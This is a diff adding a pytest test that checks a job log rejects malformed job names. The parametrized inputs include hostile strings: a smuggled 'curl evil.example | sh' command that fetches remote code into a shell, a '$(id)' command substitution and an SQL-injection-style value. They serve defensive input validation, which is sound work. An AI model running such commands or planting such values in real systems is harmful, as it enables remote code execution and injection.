@@ -93,6 +93,17 @@ def test_an_option_that_no_command_has_written(option: dict[str, object]) -> Non
     _is_refused_as_job(options={"group": "billing", **option})
 
 
+@pytest.mark.parametrize(
+    "key", [b"", b"j1; curl evil.example | sh", b"$(id)", b"j1' or true", b"j1\n", "é".encode(), b"j" * 65]
+)
+def test_a_name_that_no_job_has(key: bytes) -> None:
+    """People would copy it into a shell, with the command that goes on with the job."""
+    log = JobLog()
+    with pytest.raises(RedriveRecordError, match="no name of a job"):
+        log.add(0, key, _text(_JOB))
+    assert not log.jobs
+
+
 def test_options_of_a_newer_version_are_ignored() -> None:
     """A job of this form can be read."""
     log = JobLog()
